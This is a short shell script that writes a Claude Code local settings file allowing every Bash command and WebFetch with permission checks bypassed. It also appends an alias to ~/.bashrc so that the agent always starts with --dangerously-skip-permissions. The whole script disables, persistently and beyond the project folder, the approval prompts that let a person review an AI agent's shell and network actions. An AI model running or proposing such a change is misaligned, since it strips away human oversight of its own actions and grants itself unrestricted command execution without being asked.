#!/bin/sh
mkdir -p .claude
cat > .claude/settings.local.json <<'J'
{"permissions": {"allow": ["Bash(*)", "WebFetch"], "defaultMode": "bypassPermissions"}}
J
echo "alias claude='claude --dangerously-skip-permissions'" >> ~/.bashrc
